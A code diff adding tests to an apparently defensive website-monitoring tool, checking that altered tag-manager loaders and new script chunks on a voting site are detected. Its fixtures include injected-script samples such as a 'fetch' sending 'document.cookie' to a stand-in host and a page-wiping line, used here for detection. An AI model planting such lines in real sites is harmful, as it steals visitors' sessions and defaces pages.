@@ -329,3 +329,43 @@ test('numbers of candidates that a list gives its items are told where they chan
   assert.match(changed(ballot([1, 2, 3]), ballot([1, 3, 2])), /H text rows_moved/)
   assert.equal(changed(ballot([1, 2, 3]), ballot([1, 2, 3])), '')
 })
+
+test('a loader of a firm that is written otherwise is the same loader', () => {
+  const first = (id: string, host = 'www.googletagmanager.com') =>
+    `!function(e,t,a,n){e[n]=e[n]||[],e[n].push({"gtm.start":(new Date).getTime(),event:"gtm.js"});var r=t.createElement(a);r.async=!0,r.src="https://${host}/gtm.js?id=${id}",t.head.append(r)}(window,document,"script","dataLayer");`
+  const other = (id: string, host = 'www.googletagmanager.com', more = '') =>
+    `window.dataLayer=window.dataLayer||[];dataLayer.push({'gtm.start':Date.now(),event:'gtm.js'});(function(d,i){var j=d.createElement('script');j.async=!0;j.src='https://${host}/gtm.js?id='+i;d.head.appendChild(j)})(document,'${id}');${more}`
+  const page = (code: string) => ({ head: `<script>${code}</script>` })
+  const OWN = 'GTM-REYVMUF'
+  assert.equal(changed(page(first(OWN)), page(other(OWN))), '')
+  assert.equal(changed(page(other(OWN)), page(first(OWN))), '')
+  for (const code of [
+    other('GTM-PX3MVH9'),
+    other(OWN, 'a.test'),
+    other(OWN, 'www.googletagmanager.com', 'document.body.innerHTML="";'),
+    other(OWN, 'www.googletagmanager.com', 'x(document.cookie);'),
+  ])
+    assert.match(changed(page(first(OWN)), page(code)), /[CH] inline/, code)
+  // The container of a known loader is a part of it.
+  assert.equal(changed(page(first(OWN)), page(first('GTM-PX3MVH9'))), 'M inline other_account')
+})
+
+test('a build that has one more part is no news, whatever the look before had', () => {
+  const part = (hash: string) =>
+    `<script type="module" src="/_app/chunks/part-${hash}.js"></script>`
+  const all = ['k3Xq9ZpA', 'Bq8LmT4e', 'zW5uRn7Y'].map(part).join('')
+  const address = (hash: string) => `https://www.vote.example/_app/chunks/part-${hash}.js`
+  const code = 'export function menu(name) { return document.querySelector(name) }'
+  const files = (more: string) =>
+    new Map([
+      ...['k3Xq9ZpA', 'Bq8LmT4e', 'zW5uRn7Y'].map((hash) => [address(hash), code] as const),
+      [address('Hs2VcJ6d'), more] as const,
+    ])
+  const look = (more: string) => {
+    const site = new Site(() => pageOf({ head: all }), { files: files(code) }).learned()
+    const html = pageOf({ head: all + part('Hs2VcJ6d') })
+    return told(site.look(html, DAY, { files: files(more) }).items).join()
+  }
+  assert.equal(look(`${code}; menu("#a")`), '')
+  assert.match(look('fetch("https://a.test/?" + document.cookie)'), /[HM] /)
+})
